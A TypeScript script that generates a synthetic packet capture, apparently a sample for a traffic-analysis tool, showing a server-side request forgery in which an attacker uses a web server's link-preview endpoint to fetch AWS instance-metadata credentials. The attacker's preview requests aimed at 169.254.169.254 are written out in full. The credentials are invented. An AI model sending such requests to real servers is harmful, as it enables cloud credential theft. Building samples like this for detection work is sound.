/**
 * Writes samples/credential-theft.pcap: half an hour at a web server whose link preview can be made to fetch any
 * address. Run by hand after a change; the bytes are the same every time.
 *
 *     node scripts/make-sample.ts
 */
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';

export const SAMPLE = new URL('../samples/credential-theft.pcap', import.meta.url);

/** One connection with one request on it. Each side's bytes fit into one segment. */
interface Conversation {
  /** When the connection is opened, in milliseconds from `START`. */
  readonly at: number;
  /** Milliseconds from the request to its answer. */
  readonly answeredAfter: number;
  readonly client: string;
  readonly clientPort: number;
  readonly server: string;
  readonly request: string;
  readonly answer: string;
  /** IP TTL of the answer. */
  readonly ttl?: number;
}

const START = Date.UTC(2026, 2, 2, 9, 0, 0);

const WEB_SERVER = '10.0.3.17';
const METADATA = '169.254.169.254';
const ATTACKER = '203.0.113.50';

// Invented, and drawn from hashes so that they look like what they stand for. None of them opens anything.
export const KEY_ID = 'ASIAEXAMPLEEXAMPLE00';
export const SECRET_KEY = invented('secret key').slice(0, 40);
export const CREDENTIAL_TOKEN = `IQoJb3JpZ2luX2Vj${['a', 'b', 'c', 'd', 'e', 'f'].map(invented).join('')}`;
export const SESSION_TOKENS = ['cloud-init', 'app'].map((who) => `${invented(`session of ${who}`).slice(0, 54)}==`);

/** 86 characters of base64. */
function invented(what: string): string {
  return createHash('sha512').update(`hoplimit sample: ${what}`).digest('base64').replace(/=+$/, '');
}

const CREDENTIAL = `{
  "Code" : "Success",
  "LastUpdated" : "2026-03-02T08:41:07Z",
  "Type" : "AWS-HMAC",
  "AccessKeyId" : "${KEY_ID}",
  "SecretAccessKey" : "${SECRET_KEY}",
  "Token" : "${CREDENTIAL_TOKEN}",
  "Expiration" : "2026-03-02T15:12:44Z"
}`;

const ROLES = '/latest/meta-data/iam/security-credentials/';
const BOTO3 = 'Boto3/1.43.11 Python/3.11.7 Linux/6.1.0-generic-x Botocore/1.43.11';

const CONVERSATIONS: readonly Conversation[] = [
  // The machine starts: cloud-init reads who it is.
  asks(0, 41_002, put(['User-Agent: Cloud-Init/25.2'], 'X-aws-ec2-metadata-token-ttl-seconds'), token(0), 1),
  asks(
    12,
    41_004,
    get('/2021-03-23/meta-data/instance-id', [
      'User-Agent: Cloud-Init/25.2',
      'Accept-Encoding: gzip, deflate',
      'Accept: */*',
      'Connection: keep-alive',
      `X-aws-ec2-metadata-token: ${SESSION_TOKENS[0]}`,
    ]),
    found('i-0123456789abcdef0'),
  ),
  // The application reads its own role's credential, as the AWS SDK for Python does.
  asks(65_000, 41_310, put(['Accept-Encoding: identity'], 'x-aws-ec2-metadata-token-ttl-seconds', BOTO3), token(1), 1),
  asks(65_009, 41_312, get(ROLES, sdkHeaders()), found('shop-web')),
  asks(65_016, 41_314, get(`${ROLES}shop-web`, sdkHeaders()), found(CREDENTIAL)),
  // Somebody has the preview fetch what only the machine itself may: a guess, the listing, the credential.
  ...preview(1_800_000, 0, `${ROLES}admin`, notFound(), page(502, 'Bad Gateway', 'The link could not be read.')),
  ...preview(1_812_400, 1, ROLES, found('shop-web'), page(200, 'OK', 'shop-web')),
  ...preview(1_819_900, 2, `${ROLES}shop-web`, found(CREDENTIAL), page(200, 'OK', CREDENTIAL)),
];

function asks(at: number, clientPort: number, request: string, answer: string, ttl = 64): Conversation {
  return { at, answeredAfter: 2, client: WEB_SERVER, clientPort, server: METADATA, request, answer, ttl };
}

/** The attacker's request, and the one that curl makes for it. */
function preview(at: number, index: number, path: string, answer: string, shown: string): Conversation[] {
  const url = encodeURIComponent(`http://${METADATA}${path}`);
  const agent = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';
  const request = `GET /preview?url=${url} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${agent}\r\nAccept: */*\r\n\r\n`;
  return [
    {
      at,
      answeredAfter: 40,
      client: ATTACKER,
      clientPort: 52_110 + index,
      server: WEB_SERVER,
      request,
      answer: shown,
      ttl: 64,
    },
    asks(at + 25, 43_870 + 2 * index, get(path, ['User-Agent: curl/8.5.0', 'Accept: */*']), answer),
  ];
}

function get(path: string, headers: readonly string[]): string {
  return ['GET ', path, ' HTTP/1.1\r\nHost: ', METADATA, '\r\n', ...headers.map((line) => `${line}\r\n`), '\r\n'].join(
    '',
  );
}

function put(headers: readonly string[], lifetime: string, agent?: string): string {
  const lines = ['PUT /latest/api/token HTTP/1.1', `Host: ${METADATA}`, ...headers, `${lifetime}: 21600`];
  if (agent !== undefined) lines.push(`User-Agent: ${agent}`);
  return [...lines, 'Content-Length: 0', '', ''].join('\r\n');
}

function sdkHeaders(): string[] {
  return ['Accept-Encoding: identity', `x-aws-ec2-metadata-token: ${SESSION_TOKENS[1]}`, `User-Agent: ${BOTO3}`];
}

function token(index: number): string {
  return found(SESSION_TOKENS[index], ['X-Aws-Ec2-Metadata-Token-Ttl-Seconds: 21600']);
}

function found(body: string, headers: readonly string[] = []): string {
  return answered(200, 'OK', ['Content-Type: text/plain', 'Server: EC2ws', ...headers], body);
}

function notFound(): string {
  return answered(404, 'Not Found', ['Content-Type: text/html', 'Server: EC2ws'], '<h1>404 - Not Found</h1>');
}

function page(status: number, phrase: string, text: string): string {
  return answered(status, phrase, ['Content-Type: text/html', 'Server: nginx'], `<h1>Preview</h1><pre>${text}</pre>`);
}

function answered(status: number, phrase: string, headers: readonly string[], body: string): string {
  const lines = [`HTTP/1.1 ${status} ${phrase}`, ...headers, `Content-Length: ${body.length}`, 'Connection: close'];
  return `${lines.join('\r\n')}\r\n\r\n${body}`;
}

const FIN = 0x01;
const SYN = 0x02;
const PSH = 0x08;
const ACK = 0x10;

interface Frame {
  /** Microseconds since 1970. */
  readonly time: number;
  readonly bytes: Buffer;
}

/** Handshake, request, answer and goodbye, as Ethernet frames. */
function framesOf(conversation: Conversation, index: number): Frame[] {
  const { at, answeredAfter, client, clientPort, server, ttl = 64 } = conversation;
  const request = Buffer.from(conversation.request, 'latin1');
  const answer = Buffer.from(conversation.answer, 'latin1');
  const here = { address: client, port: clientPort, ttl: 64 };
  const there = { address: server, port: 80, ttl };
  const clientStart = 1_000_000 + index * 50_000;
  const serverStart = 7_000_000 + index * 50_000;
  const clientNext = clientStart + 1 + request.length;
  const serverNext = serverStart + 1 + answer.length;
  let time = (START + at) * 1000;
  const frame = (later: number, from: End, to: End, seq: number, ack: number, flags: number, payload?: Buffer) => {
    time += later;
    return { time, bytes: ethernetFrame(tcpPacket(from, to, seq, ack, flags, payload ?? Buffer.alloc(0))) };
  };
  return [
    frame(0, here, there, clientStart, 0, SYN),
    frame(180, there, here, serverStart, clientStart + 1, SYN | ACK),
    frame(30, here, there, clientStart + 1, serverStart + 1, ACK),
    frame(90, here, there, clientStart + 1, serverStart + 1, PSH | ACK, request),
    frame(answeredAfter * 1000, there, here, serverStart + 1, clientNext, PSH | FIN | ACK, answer),
    frame(60, here, there, clientNext, serverNext + 1, FIN | ACK),
    frame(150, there, here, serverNext + 1, clientNext + 1, ACK),
  ];
}

interface End {
  readonly address: string;
  readonly port: number;
  readonly ttl: number;
}

/** IPv4 (RFC 791) and TCP (RFC 9293) without options. */
function tcpPacket(from: End, to: End, sequence: number, acknowledgment: number, flags: number, payload: Buffer) {
  const packet = Buffer.concat([Buffer.alloc(40), payload]);
  packet.writeUInt16BE(0x4500, 0);
  packet.writeUInt16BE(packet.length, 2);
  packet.writeUInt16BE(0x4000, 6); // don't fragment
  packet[8] = from.ttl;
  packet[9] = 6;
  addressBytes(from.address).copy(packet, 12);
  addressBytes(to.address).copy(packet, 16);
  packet.writeUInt16BE(checksum(packet.subarray(0, 20)), 10);
  packet.writeUInt16BE(from.port, 20);
  packet.writeUInt16BE(to.port, 22);
  packet.writeUInt32BE(sequence, 24);
  packet.writeUInt32BE(acknowledgment, 28);
  packet.writeUInt16BE(0x5000 | flags, 32);
  packet.writeUInt16BE(64_240, 34);
  const length = packet.length - 20;
  const pseudoHeader = Buffer.concat([packet.subarray(12, 20), Buffer.from([0, 6, length >> 8, length & 0xff])]);
  packet.writeUInt16BE(checksum(Buffer.concat([pseudoHeader, packet.subarray(20)])), 36);
  return packet;
}

function addressBytes(address: string): Buffer {
  return Buffer.from(address.split('.').map(Number));
}

/** RFC 1071. */
function checksum(bytes: Buffer): number {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += (bytes[at] << 8) | (at + 1 < bytes.length ? bytes[at + 1] : 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** Between two locally administered addresses, since what lies beyond the next hop is not seen. */
function ethernetFrame(packet: Buffer): Buffer {
  return Buffer.concat([Buffer.from('0200000000010200000000020800', 'hex'), packet]);
}

/** The capture: classic pcap, microseconds, Ethernet. */
export function makeSample(): Buffer {
  const header = Buffer.alloc(24);
  header.writeUInt32LE(0xa1b2c3d4, 0);
  header.writeUInt16LE(2, 4);
  header.writeUInt16LE(4, 6);
  header.writeUInt32LE(262_144, 16);
  header.writeUInt32LE(1, 20);
  const frames = CONVERSATIONS.flatMap(framesOf).sort((a, b) => a.time - b.time);
  return Buffer.concat([header, ...frames.flatMap(({ time, bytes }) => [recordHeader(time, bytes.length), bytes])]);
}

function recordHeader(time: number, length: number): Buffer {
  const header = Buffer.alloc(16);
  header.writeUInt32LE(Math.floor(time / 1e6), 0);
  header.writeUInt32LE(time % 1e6, 4);
  header.writeUInt32LE(length, 8);
  header.writeUInt32LE(length, 12);
  return header;
}

if (import.meta.main) writeFileSync(SAMPLE, makeSample());
